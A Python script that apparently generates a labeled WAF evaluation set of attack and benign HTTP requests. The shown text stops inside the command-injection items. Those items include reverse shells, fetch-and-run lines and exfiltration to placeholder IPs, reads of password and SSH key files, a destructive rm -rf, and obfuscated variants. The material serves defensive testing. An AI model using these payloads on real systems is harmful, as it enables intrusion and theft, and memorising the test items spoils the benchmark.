#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, seventh unseen batch (source tag "v16").

Provenance: written blind on 2026-12-07 by a helper session that read none of
the WAF's rules, tests, docs, benchmarks or corpora.  Every attack payload and
every benign request below was written from general knowledge of attack
techniques and of ordinary web/API traffic; nothing was copied from a public
payload list.  Only the Python standard library is used.

Determinism: all randomness comes from random.Random(707070).  Running the
script twice writes a byte-identical waf_unseen_seventh.jsonl next to it.

Row conventions (one JSON object per line, keys in exactly this order):
  id        "v16-a-<category>-NNNN" for attacks, "v16-b-<category>-NNNN" for
            benign rows, numbered per category from 0001
  label     "attack" or "benign"
  category  16 attack categories, 14 benign categories
  method    GET / POST / PUT / PATCH / DELETE
  path      raw request path as sent on the wire (percent-encoded as needed)
  query     raw query string without "?" ("" if none)
  headers   always Host, User-Agent and Accept, plus Content-Type whenever
            there is a body; values never contain raw CR/LF or non-ASCII
  body      raw body ("" if none): JSON, urlencoded form, multipart/form-data
            (CRLF framing, boundary in Content-Type), XML or text/plain
  placement query, query_key, path, json, json_key, form, header, cookie,
            multipart or xml: where the interesting value sits
  payload   that value as the application receives it after the intended
            decoding (URL-decoding for query/form/path/cookie, JSON string
            unescaping, XML entity/CDATA decoding).  Header values are not
            decoded.  Inherently encoded evasions (double percent-encoding,
            overlong UTF-8, IIS %u) are put on the wire verbatim and kept
            literally in the payload.  NoSQL operator objects and
            prototype-pollution objects are the compact JSON of the injected
            sub-document; bracket keys are the decoded "key=value"; for XXE
            the payload is the whole XML document.
  hard      true for attacks that use an evasion and for benign rows that are
            deliberately false-positive-prone
  source    "v16"
"""

import base64
import codecs
import json
import os
import random
import string
import xml.etree.ElementTree as ET
from urllib.parse import unquote, unquote_plus

R = random.Random(707070)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_seventh.jsonl")
SENT = "@@PAYLOAD@@"

ATTACK_CATS = [
    "cmdi",
    "code_injection",
    "crlf",
    "ldapi",
    "log4shell",
    "mail_injection",
    "nosqli",
    "path_traversal",
    "php_injection",
    "prototype_pollution",
    "rfi",
    "sqli",
    "ssrf",
    "ssti",
    "xss",
    "xxe",
]
BENIGN_CATS = [
    "benign_api_json",
    "benign_base64",
    "benign_code",
    "benign_cookies",
    "benign_files",
    "benign_forms",
    "benign_graphql",
    "benign_headers",
    "benign_jwt",
    "benign_markdown",
    "benign_prose",
    "benign_richtext",
    "benign_search",
    "benign_urls",
]
PLACEMENTS = {
    "q": "query",
    "k": "query_key",
    "p": "path",
    "j": "json",
    "jk": "json_key",
    "f": "form",
    "h": "header",
    "c": "cookie",
    "m": "multipart",
    "x": "xml",
}


def pick(seq):
    return seq[R.randrange(len(seq))]


def chance(p):
    return R.random() < p


def hexs(n):
    return "".join(pick("0123456789abcdef") for _ in range(n))


def alnum(n):
    return "".join(pick(string.ascii_letters + string.digits) for _ in range(n))


def digits(n):
    return "".join(pick(string.digits) for _ in range(n))


def uuid4():
    h = hexs(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], pick("89ab"), h[17:20], h[20:32])


def rbytes(n):
    return bytes(R.randrange(256) for _ in range(n))


def b64(b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return base64.b64encode(b).decode("ascii")


def b64u(b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode("ascii")


def cjson(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


HOSTS = [
    "api.larkspur-freight.com",
    "shop.mintbarrow.io",
    "app.quillmetrics.net",
    "portal.brindlebank.co.uk",
    "api.tidewell-health.com",
    "www.copperfen.de",
    "dash.orbitkettle.io",
    "api.saltmarsh-labs.dev",
    "cms.fernhollow-press.org",
    "store.velvetpine.com",
    "api.hollowcrest.app",
    "my.northwake-energy.com",
    "gw.plumtree-logistics.net",
    "api.ravenmoor.cloud",
    "intranet.ashgrove-legal.com",
    "app.kindlepath.io",
    "api.mossandmarrow.com",
    "billing.tallowbrook.com",
    "support.ironquay.com",
    "api.lumenhaus.eu",
    "hub.cinderfield.org",
    "api.wrenlake.ai",
]

UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
]
UA_CLIENT = [
    "curl/8.5.0",
    "curl/7.88.1",
    "python-requests/2.32.3",
    "python-httpx/0.27.2",
    "Go-http-client/2.0",
    "Go-http-client/1.1",
    "axios/1.7.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "PostmanRuntime/7.42.0",
    "okhttp/4.12.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.12)",
    "Dart/3.5 (dart:io)",
    "Ruby",
    "aiohttp/3.10.10",
]
UA_APP = [
    "MintBarrow/5.14.2 (iPhone; iOS 18.1; Scale/3.00)",
    "Larkspur/3.8.0 (Android 14; Pixel 8; build 3080012)",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "Quill/2.2.1 CFNetwork/1568.200.51 Darwin/24.1.0",
    "Tidewell-Health/7.1.0 (com.tidewell.app; build:7104; iOS 17.6.1) Alamofire/5.9.1",
]
HTML_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.8",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9,en-US;q=0.6",
    "es-ES,es;q=0.9",
    "nl-NL,nl;q=0.9,en;q=0.8",
    "ja-JP,ja;q=0.9,en;q=0.5",
    "pt-BR,pt;q=0.9,en;q=0.7",
]
SCOPES = [
    "openid profile email",
    "read:orders write:orders",
    "catalog.read",
    "api offline_access",
    "reports:read",
    "user.read mail.send",
    "inventory:write inventory:read",
]


def webhost(host):
    return "www." + host.split(".", 1)[1]


def fake_jwt(host=None, claims=None, alg=None):
    host = host or pick(HOSTS)
    alg = alg or pick(["RS256", "RS256", "ES256", "HS256"])
    hdr = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        hdr["kid"] = hexs(16)
    now = 1796500000 + R.randrange(900000)
    c = {
        "iss": "https://auth.%s/" % host.split(".", 1)[1],
        "sub": "usr_" + alnum(14),
        "aud": pick(["api", "https://" + host, "web-client"]),
        "iat": now,
        "exp": now + pick([900, 3600, 86400]),
    }
    if claims:
        c.update(claims)
    else:
        c["scope"] = pick(SCOPES)
    sig = rbytes({"RS256": 256, "ES256": 64, "HS256": 32}[alg])
    return b64u(cjson(hdr)) + "." + b64u(cjson(c)) + "." + b64u(sig)


def session_cookie():
    return pick(
        [
            "sid=%s" % alnum(32),
            "session=%s" % alnum(40),
            "connect.sid=s%%3A%s.%s" % (alnum(32), alnum(43)),
            "PHPSESSID=%s" % hexs(26),
            "JSESSIONID=%s" % hexs(32).upper(),
            "_session_id=%s" % hexs(32),
        ]
    )


def mk_headers(host, ctype=None, kind=None, accept=None, page=False, extra=None, cookie=None, auth=True):
    kind = kind or pick(["browser"] * 9 + ["client"] * 7 + ["app"] * 4)
    if kind == "browser":
        ua = pick(UA_BROWSER)
        acc = HTML_ACCEPT if page else pick(["application/json, text/plain, */*", "application/json", "*/*"])
    elif kind == "client":
        ua = pick(UA_CLIENT)
        acc = "*/*" if ua.startswith(("curl", "python-requests", "Go-http")) else pick(["application/json", "*/*"])
    else:
        ua = pick(UA_APP)
        acc = "application/json"
    h = {"Host": host, "User-Agent": ua, "Accept": accept or acc}
    if kind == "browser" and chance(0.7):
        h["Accept-Language"] = pick(LANGS)
    if chance(0.35):
        h["X-Request-ID"] = uuid4()
    if auth and chance(0.35):
        if chance(0.8):
            h["Authorization"] = "Bearer " + fake_jwt(host)
        else:
            h["Authorization"] = "Basic " + b64(
                "%s:%s" % (pick(["svc-report", "deploy", "admin-api", "jenkins"]), alnum(18))
            )
    if kind == "browser":
        if chance(0.45):
            h["Origin"] = "https://" + webhost(host)
        if chance(0.45):
            h["Referer"] = "https://%s/%s" % (
                webhost(host),
                pick(["", "account", "checkout", "dashboard", "settings/profile", "search?q=boots"]),
            )
    if cookie:
        h["Cookie"] = cookie
    elif kind == "browser" and chance(0.3):
        h["Cookie"] = session_cookie()
    if extra:
        for k, v in extra.items():
            h[k] = v
    if ctype:
        h["Content-Type"] = ctype
    return h


# ---------------------------------------------------------------- encodings
UNRES = frozenset(string.ascii_letters + string.digits + "-._~")
Q_SAFE = "/:,@!*()'$"
PATH_SAFE = "!$&'()*+,;=:@"
COOKIE_SAFE = "/:!*()'@$=[]{}"


def pct(s, safe="", mode="std"):
    out = []
    for ch in s:
        if ch == " " and mode in ("plus", "form"):
            out.append("+")
            continue
        keep = ch in UNRES or ch in safe
        if mode == "full":
            keep = False
        elif mode == "mixed" and ch.isascii() and ch.isalnum() and R.random() < 0.35:
            keep = False
        if keep:
            out.append(ch)
        else:
            for b in ch.encode("utf-8"):
                f = "%%%02x" if (mode == "mixed" and R.random() < 0.5) else "%%%02X"
                out.append(f % b)
    return "".join(out)


def enc_val(v, safe, mode, kind):
    if mode == "raw":
        assert all(33 <= ord(c) < 127 for c in v), v
        assert "&" not in v and "#" not in v and " " not in v, v
        if kind == "c":
            assert ";" not in v and "," not in v, v
        return v
    if kind == "form" and mode == "std":
        mode = "form"
    w = pct(v, safe, mode)
    d = unquote_plus(w) if mode in ("form", "plus") or kind == "form" else unquote(w)
    assert d == v, (v, w, d)
    return w


def jstr(s, esc="", esc_all=False):
    out = ['"']
    for ch in s:
        if esc_all or ch in esc:
            o = ord(ch)
            if o > 0xFFFF:
                o -= 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (o >> 10), 0xDC00 + (o & 0x3FF)))
            else:
                out.append(("\\u%04x" if R.random() < 0.5 else "\\u%04X") % o)
        else:
            out.append(json.dumps(ch, ensure_ascii=False)[1:-1])
    out.append('"')
    return "".join(out)


def ser(obj, esc="", esc_all=False, seps=(",", ":")):
    if isinstance(obj, dict):
        return (
            "{"
            + seps[0].join(jstr(k, esc, esc_all) + seps[1] + ser(v, esc, esc_all, seps) for k, v in obj.items())
            + "}"
        )
    if isinstance(obj, list):
        return "[" + seps[0].join(ser(v, esc, esc_all, seps) for v in obj) + "]"
    if isinstance(obj, str):
        return jstr(obj, esc, esc_all)
    return json.dumps(obj)


def xml_esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xml_text(v, mode="esc", chars="'\"()<>{}$;|&\r\n"):
    if mode == "esc":
        assert "\r" not in v
        return xml_esc(v)
    if mode == "cdata":
        assert "]]>" not in v and "\r" not in v
        return "<![CDATA[" + v + "]]>"
    out = []
    for ch in v:
        if ch in chars or ch in "&<>\r" or (ch.isalpha() and R.random() < 0.12):
            out.append(("&#%d;" % ord(ch)) if R.random() < 0.5 else ("&#x%x;" % ord(ch)))
        else:
            out.append(ch)
    return "".join(out)


def boundary():
    k = R.randrange(4)
    if k == 0:
        return "----WebKitFormBoundary" + alnum(16)
    if k == 1:
        return "-" * 27 + digits(30)
    if k == 2:
        return "-" * 24 + hexs(16)
    return hexs(32)


def multipart(parts):
    bnd = boundary()
    lines = []
    for name, value, fname, ctype in parts:
        assert '"' not in name and "\r" not in name and "\n" not in name
        assert bnd not in value
        lines.append("--" + bnd)
        cd = 'Content-Disposition: form-data; name="%s"' % name
        if fname is not None:
            assert '"' not in fname and "\r" not in fname and "\n" not in fname, fname
            cd += '; filename="%s"' % fname
        lines.append(cd)
        if ctype:
            lines.append("Content-Type: " + ctype)
        lines.append("")
        lines.append(value)
    lines.append("--" + bnd + "--")
    lines.append("")
    return "\r\n".join(lines), "multipart/form-data; boundary=" + bnd


# ---------------------------------------------------------------- rows
ROWS = []
COUNT = {}
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE")
KEYS = [
    "id",
    "label",
    "category",
    "method",
    "path",
    "query",
    "headers",
    "body",
    "placement",
    "payload",
    "hard",
    "source",
]


def emit(label, cat, method, path, query, headers, body, placement, payload, hard):
    assert label in ("attack", "benign")
    assert cat in (ATTACK_CATS if label == "attack" else BENIGN_CATS), cat
    assert method in METHODS, method
    assert placement in PLACEMENTS.values(), placement
    assert isinstance(payload, str) and payload, (cat, payload)
    assert path.startswith("/") and all(33 <= ord(c) < 127 for c in path) and "?" not in path and "#" not in path, path
    assert all(33 <= ord(c) < 127 for c in query) and "#" not in query, query
    for k in ("Host", "User-Agent", "Accept"):
        assert k in headers, (k, headers)
    if body:
        assert "Content-Type" in headers, headers
    for k, v in headers.items():
        assert all(32 <= ord(c) < 127 for c in k + v), (k, v)
    pre = "a" if label == "attack" else "b"
    n = COUNT.get(cat, 0) + 1
    COUNT[cat] = n
    ROWS.append(
        {
            "id": "v16-%s-%s-%04d" % (pre, cat, n),
            "label": label,
            "category": cat,
            "method": method,
            "path": path,
            "query": query,
            "headers": headers,
            "body": body,
            "placement": placement,
            "payload": payload,
            "hard": bool(hard),
            "source": "v16",
        }
    )


def I(pl, payload=None, hard=False, **kw):
    d = dict(kw)
    d["pl"] = pl
    if "kv" in kw:
        payload = "%s=%s" % kw["kv"]
    elif payload is None and "obj" in kw:
        payload = cjson(kw["obj"])
    elif payload is None and "xdoc" in kw:
        payload = kw["xdoc"]
    d["payload"] = payload
    d["hard"] = hard
    return d


# generic endpoints for header / cookie placements: (method, path, query)
GP = [
    ("GET", "/api/v1/me", ""),
    ("GET", "/api/v2/orders", "status=open&limit=20"),
    ("GET", "/account/settings", ""),
    ("GET", "/api/v1/notifications", "unread=true"),
    ("GET", "/login", ""),
    ("GET", "/api/v3/catalog/items", "page=2"),
    ("GET", "/dashboard", ""),
    ("GET", "/api/v1/feature-flags", ""),
    ("GET", "/api/v2/reports/summary", "range=30d"),
    ("GET", "/api/v1/health", ""),
    ("GET", "/api/v1/cart", ""),
    ("GET", "/wp-json/wp/v2/posts", "per_page=10"),
    ("GET", "/api/v1/projects/4471/members", ""),
    ("GET", "/downloads/latest", "platform=linux"),
]


def fill_q(exclude):
    pool = [
        ("page", str(R.randint(1, 12))),
        ("limit", pick(["10", "20", "25", "50", "100"])),
        ("sort", pick(["-created_at", "name", "updated_at", "-score"])),
        ("lang", pick(["en", "de", "fr", "es", "nl"])),
        ("utm_source", pick(["newsletter", "google", "partner"])),
        ("v", str(R.randint(1, 4))),
        ("include", pick(["items", "customer,items", "owner"])),
        ("_", str(1796500000000 + R.randrange(10**9))),
    ]
    R.shuffle(pool)
    n = pick([0, 0, 1, 1, 2])
    return [p for p in pool if p[0] != exclude][:n]


def fill_cookies():
    pool = [
        "_ga=GA1.1.%s.%s" % (digits(10), 1790000000 + R.randrange(6000000)),
        session_cookie(),
        "csrftoken=" + alnum(32),
        "theme=" + pick(["dark", "light"]),
        "locale=" + pick(["en-US", "de-DE", "fr-FR"]),
        "_gid=GA1.1.%s.%s" % (digits(9), 1796000000 + R.randrange(600000)),
    ]
    R.shuffle(pool)
    return pool[: pick([0, 1, 1, 2, 3])]


def qjoin(pairs):
    return "&".join(k + "=" + v for k, v in pairs)


def ctxget(it, cx, key):
    if "ctx" in it:
        return it["ctx"]
    lst = cx[key]
    if "ci" in it:
        return lst[it["ci"] % len(lst)]
    return pick(lst)


def nest(doc, field, value):
    parts = field.split(".")
    d = doc
    for p in parts[:-1]:
        d = d.setdefault(p, {})
    d[parts[-1]] = value


def b_query(it, cx, host):
    method, path, name = ctxget(it, cx, "q")
    name = it.get("name", name)
    wire = enc_val(it["payload"], Q_SAFE, it.get("enc", "std"), "q")
    pairs = list(it["extra_q"]) if "extra_q" in it else fill_q(name)
    pairs.insert(R.randrange(len(pairs) + 1) if "extra_q" not in it else it.get("qpos", len(pairs)), (name, wire))
    return method, path, qjoin(pairs), mk_headers(host, kind=it.get("kind")), ""


def b_qkey(it, cx, host):
    method, path = ctxget(it, cx, "k")[:2]
    k, v = it["kv"]
    mode = it.get("enc", "std")
    kw = k if mode == "raw" else pct(k, "[]" + Q_SAFE, mode)
    assert mode == "raw" or unquote(kw) == k
    vw = enc_val(v, Q_SAFE, mode, "q") if v else ""
    pairs = fill_q(k)
    pairs.insert(R.randrange(len(pairs) + 1), (kw, vw))
    for extra in it.get("more", []):
        pairs.append((pct(extra[0], "[]"), pct(extra[1], Q_SAFE)))
    return method, path, qjoin(pairs), mk_headers(host, kind=it.get("kind")), ""


def b_json(it, cx, host):
    if "doc" in it:
        method, path = it["ctx"][:2]
        doc = it["doc"]
    else:
        method, path, field, extras = ctxget(it, cx, "j")
        field = it.get("name", field)
        doc = {}
        items = list(extras.items())
        pos = -1 if it.get("top") else R.randrange(len(items) + 1)
        for i, (k, v) in enumerate(items):
            if i == pos:
                nest(doc, field, SENT)
            doc[k] = v
        if pos == len(items):
            nest(doc, field, SENT)
        if it.get("top") and "keep" in it:
            doc[field] = it["keep"]
    val = it.get("obj", it["payload"])
    seps = pick([(",", ":"), (", ", ": ")])
    esc, esc_all = it.get("esc", ""), it.get("esc_all", False)
    base = json.dumps(doc, ensure_ascii=False, separators=seps)
    if it.get("top"):
        inner = ser(val, esc, esc_all, seps)[1:-1]
        assert SENT not in base
        body = base[:-1] + (seps[0] if base != "{}" else "") + inner + "}"
    else:
        tok = json.dumps(SENT)
        assert base.count(tok) == 1, base
        body = base.replace(tok, ser(val, esc, esc_all, seps))
    json.loads(body)
    ct = it.get("ct") or pick(["application/json", "application/json", "application/json; charset=utf-8"])
    return method, path, it.get("query", ""), mk_headers(host, ctype=ct, kind=it.get("kind")), body


def b_form(it, cx, host):
    method, path, field, extras = ctxget(it, cx, "f")
    mode = it.get("enc", "std")
    if "kv" in it:
        k, v = it["kv"]
    else:
        k, v = it.get("name", field), it["payload"]
    kw = pct(k, "[]*", "form" if mode == "std" else mode)
    assert unquote_plus(kw) == k
    vw = enc_val(v, "*", mode, "form")
    pairs = [(pct(a, "*[]", "form"), pct(b, "*", "form")) for a, b in extras]
    pairs.insert(R.randrange(len(pairs) + 1), (kw, vw))
    ct = pick(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
    return method, path, it.get("query", ""), mk_headers(host, ctype=ct, kind=it.get("kind")), qjoin(pairs)


def b_header(it, cx, host):
    name = it.get("name") or pick(cx["h"])
    method, path, query = it.get("gp") or pick(GP)
    v = it["payload"]
    assert all(32 <= ord(c) < 127 for c in v), v
    kind = it.get("kind") or ("browser" if name in ("Referer", "Origin") else None)
    if "hbody" in it:
        ct, body = it["hbody"]
        return method, path, query, mk_headers(host, ctype=ct, kind=kind, extra={name: v}), body
    return method, path, query, mk_headers(host, kind=kind, extra={name: v}), ""


def b_cookie(it, cx, host):
    name = it.get("name") or pick(cx["c"])
    method, path, query = it.get("gp") or pick(GP)
    wire = enc_val(it["payload"], COOKIE_SAFE, it.get("enc", "std"), "c")
    cookies = fill_cookies()
    cookies.insert(R.randrange(len(cookies) + 1), "%s=%s" % (name, wire))
    return method, path, query, mk_headers(host, kind=it.get("kind", "browser"), cookie="; ".join(cookies)), ""


def b_path(it, cx, host):
    method, pre, suf = ctxget(it, cx, "p")
    mode = it.get("enc", "std")
    v = it["payload"]
    if "wire" in it:
        wire = it["wire"]
        assert unquote(wire) == v, (v, wire)
    elif mode == "raw":
        assert all(33 <= ord(c) < 127 for c in v) and "?" not in v and "#" not in v, v
        wire = v
    else:
        wire = pct(v, PATH_SAFE + ("/" if it.get("slash") else ""), mode)
        assert unquote(wire) == v, (v, wire)
    return method, pre + wire + suf, it.get("query", ""), mk_headers(host, kind=it.get("kind")), ""


FILE_CONTENT = {
    "csv": ("text/csv", "id,name,qty\r\n1,Widget,4\r\n2,Gadget,9\r\n"),
    "txt": ("text/plain", "Meeting notes\nAction items: review Q3 numbers.\n"),
    "pdf": ("application/pdf", "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
    "json": ("application/json", '{"version":1,"items":[]}'),
    "md": ("text/markdown", "# Notes\n\n- first\n- second\n"),
    "sql": ("application/sql", "-- migration 0042\nALTER TABLE orders ADD COLUMN gift_note text;\n"),
    "yaml": ("application/yaml", "name: build\non: [push]\njobs: {}\n"),
    "yml": ("application/yaml", "version: '3.9'\nservices:\n  web:\n    image: nginx:1.27\n"),
    "log": ("text/plain", "2026-12-01T10:00:00Z INFO worker started pid=4121\n"),
    "ics": ("text/calendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Rota//EN\r\nEND:VCALENDAR\r\n"),
    "html": ("text/html", "<!doctype html><title>Export</title><p>Quarterly report</p>"),
    "conf": ("text/plain", "server {\n  listen 80;\n  server_name example.org;\n}\n"),
    "js": ("text/javascript", "export const version = '1.4.0';\n"),
}


def b_mp(it, cx, host):
    method, path, field, kind, extras = ctxget(it, cx, "m")
    kind = it.get("mk", kind)
    v = it["payload"]
    parts = [(n, val, None, None) for n, val in extras]
    if kind == "text" and "kv" in it:
        tgt = (it["kv"][0], it["kv"][1], None, None)
    elif kind == "text":
        tgt = (it.get("name", field), v, None, None)
    elif kind == "filename":
        ext = it.get("ext", "txt")
        ct, content = FILE_CONTENT[ext]
        tgt = (field, content, v, it.get("mpct", ct))
    else:
        tgt = (field, v, it.get("fn", "upload.txt"), it.get("mpct", "text/plain"))
    if kind == "text":
        parts.insert(R.randrange(len(parts) + 1), tgt)
    else:
        parts.append(tgt)
    body, ct = multipart(parts)
    return method, path, it.get("query", ""), mk_headers(host, ctype=ct, kind=it.get("kind")), body


def xml_wrap(root, el, text):
    if root.startswith("soap:"):
        op = root[5:]
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" '
            'xmlns:ns="urn:services.example:%s"><soapenv:Header/><soapenv:Body><ns:%s><ns:%s>%s</ns:%s></ns:%s>'
            "</soapenv:Body></soapenv:Envelope>" % (op.lower(), op, el, text, el, op)
        )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<%s>\n  <%s>%s</%s>\n  <requestedAt>2026-12-0%dT%02d:%02d:%02dZ</requestedAt>\n</%s>'
        % (root, el, text, el, R.randint(1, 7), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), root)
    )


def xml_find(body, el):
    root = ET.fromstring(body.encode("utf-8"))
    for e in root.iter():
        if e.tag == el or e.tag.endswith("}" + el):
            return "".join(e.itertext())
    raise AssertionError("element not found")


def b_xml(it, cx, host):
    if "xdoc" in it:
        method, path = ctxget(it, cx, "xd")
        body = it["xdoc"]
        ct = it.get("xct", "application/xml")
    else:
        method, path, root, el = ctxget(it, cx, "x")
        el = it.get("name", el)
        body = xml_wrap(root, el, xml_text(it["payload"], it.get("xm", "esc")))
        assert xml_find(body, el) == it["payload"], (body, it["payload"])
        ct = (
            "text/xml; charset=utf-8"
            if root.startswith("soap:")
            else pick(["application/xml", "application/xml; charset=utf-8", "text/xml"])
        )
    return method, path, it.get("query", ""), mk_headers(host, ctype=ct, kind=it.get("kind")), body


BUILDERS = {
    "q": b_query,
    "k": b_qkey,
    "p": b_path,
    "j": b_json,
    "jk": b_json,
    "f": b_form,
    "h": b_header,
    "c": b_cookie,
    "m": b_mp,
    "x": b_xml,
}
CX = {}
ITEMS = {}


def build_all(label, cat):
    cx = CX.get(cat, {})
    for it in ITEMS[cat]:
        host = it.get("host") or pick(HOSTS)
        method, path, query, headers, body = BUILDERS[it["pl"]](it, cx, host)
        if "method" in it:
            method = it["method"]
        emit(label, cat, method, path, query, headers, body, PLACEMENTS[it["pl"]], it["payload"], it["hard"])


# ================================================================ attacks
CSRF = alnum(40)

# ---------------------------------------------------------------- cmdi
CX["cmdi"] = dict(
    q=[
        ("GET", "/api/v1/diagnostics/ping", "host"),
        ("GET", "/api/v2/tools/dns-lookup", "domain"),
        ("GET", "/api/v1/network/traceroute", "target"),
        ("GET", "/api/v1/media/thumbnail", "file"),
        ("DELETE", "/api/v1/backups", "archive"),
    ],
    k=[("GET", "/api/v1/tools/fetch"), ("GET", "/api/v2/media/convert")],
    j=[
        ("POST", "/api/v1/diagnostics/traceroute", "target", {"max_hops": 30, "protocol": "icmp"}),
        ("POST", "/api/v2/convert/pdf", "filename", {"format": "A4", "landscape": False}),
        (
            "POST",
            "/api/v1/ci/pipelines/trigger",
            "branch",
            {"project_id": 4821, "variables": {"DEPLOY_ENV": "staging"}},
        ),
        ("PUT", "/api/v1/backups/schedule", "destination", {"cron": "0 3 * * *", "retention_days": 14}),
        ("PATCH", "/api/v1/devices/8841", "hostname", {"apply": True}),
        ("POST", "/api/v2/video/transcode", "output_name", {"codec": "h264", "bitrate": "2500k"}),
    ],
    f=[
        ("POST", "/admin/tools/ping", "ip", [("count", "4"), ("csrf_token", CSRF)]),
        ("POST", "/cgi-bin/nslookup.cgi", "name", [("type", "A")]),
        ("POST", "/setup/wan", "ntp_server", [("dhcp", "on"), ("mtu", "1500")]),
    ],
    p=[("GET", "/api/v1/logs/tail/", ""), ("GET", "/api/v1/printers/", "/status"), ("DELETE", "/api/v1/tmp/", "")],
    h=["X-Forwarded-For", "User-Agent", "Referer", "X-Device-Hostname", "X-Backup-Target"],
    c=["backup_dir", "tz", "printer_name"],
    m=[
        ("POST", "/api/v1/uploads/convert", "file", "filename", [("target_format", "png")]),
        ("POST", "/api/v1/firmware/upload", "notes", "text", [("device_id", "gw-0142")]),
    ],
    x=[
        ("POST", "/api/v1/devices/config", "deviceConfig", "hostname"),
        ("POST", "/services/NetworkTools", "soap:Ping", "address"),
    ],
)
_ps = b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a.ps1')".encode("utf-16-le"))
ITEMS["cmdi"] = [
    I("q", "127.0.0.1; cat /etc/passwd", ci=0),
    I("q", "8.8.8.8 && id", ci=1),
    I("q", "example.com | nc 203.0.113.50 4444 -e /bin/sh", ci=1),
    I("q", "1.1.1.1 || ping -c 10 127.0.0.1", ci=2),
    I("q", "127.0.0.1;cat${IFS}/etc/passwd", True, ci=0),
    I("q", "127.0.0.1\nid", True, enc="mixed", ci=0),
    I("q", "8.8.8.8;{cat,/etc/passwd}", True, ci=2),
    I("q", "avatar.png;/???/c?t /???/p??s??", True, ci=3),
    I("q", "nightly.tar.gz; a=c;b=at;$a$b /etc/shadow", True, ci=4),
    I("k", kv=("opts[--post-file]", "/etc/passwd"), ci=0),
    I("k", kv=("args[-exec]", "sh -c 'curl 203.0.113.4/p|sh'"), hard=True, enc="full", ci=1),
    I("j", "$(curl -s http://203.0.113.7/x.sh | sh)", ci=0),
    I("j", "main; wget -qO- http://198.51.100.23/b | bash", ci=2),
    I("j", "report.pdf; rm -rf /var/www/uploads", ci=1),
    I("j", "s3://bk/$(env > /tmp/e; curl -F f=@/tmp/e http://203.0.113.7/u)", ci=3),
    I("j", "edge-01`id`", ci=4),
    I("j", "out.mp4 && bash -i >& /dev/tcp/198.51.100.9/443 0>&1", ci=5),
    I("j", "8.8.8.8;$(echo %s|base64 -d|sh)" % b64("cat /etc/passwd"), True, ci=0),
    I("j", "feature/x;c'a't /e\"t\"c/pa''sswd", True, ci=2),
    I("j", "q.pdf;$'\\x63\\x61\\x74' /etc/passwd", True, ci=1),
    I("j", "gw01\t&&\tcurl\t203.0.113.5/k|sh", True, ci=4, esc="&|\t"),
    I("j", "clip.mp4;rev<<<'dwssap/cte/ tac'|sh", True, ci=5),
    I("j", "release;tr a-z n-za-m<<<'%s'|sh" % codecs.encode("cat /etc/passwd", "rot13"), True, ci=2),
    I("f", "127.0.0.1 & type C:\\Windows\\win.ini", ci=0),
    I("f", "example.org; nslookup $(whoami).x7.oast.example", ci=1),
    I("f", "pool.ntp.org;curl${IFS}-s${IFS}http://203.0.113.7/x|sh", True, ci=2),
    I("f", "10.0.0.1 | powershell -nop -enc " + _ps, True, ci=0),
    I("f", "intranet.local&c^m^d /c who^ami", True, ci=1),
    I("f", "127.0.0.1;$(printf '\\x69\\x64')", True, ci=0, enc="mixed"),
    I("h", "() { :; }; /bin/bash -c 'curl http://203.0.113.4/s|sh'", name="User-Agent"),
    I("h", "() { ignored; }; echo; /usr/bin/id", name="Referer"),
    I("h", "10.0.0.7;id", ci=0, name="X-Forwarded-For"),
    I("h", "nas01;ec\\ho${IFS}$(ca\\t${IFS}/etc/host\\name)", True, name="X-Device-Hostname"),
    I("h", "/mnt/b;{wget,-qO-,203.0.113.9/r}|sh", True, name="X-Backup-Target"),
    I("c", "/srv/backups; cat /root/.ssh/id_rsa", name="backup_dir"),
    I("c", "UTC;IFS=,;c=cat,/etc/passwd;$c", True, name="tz"),
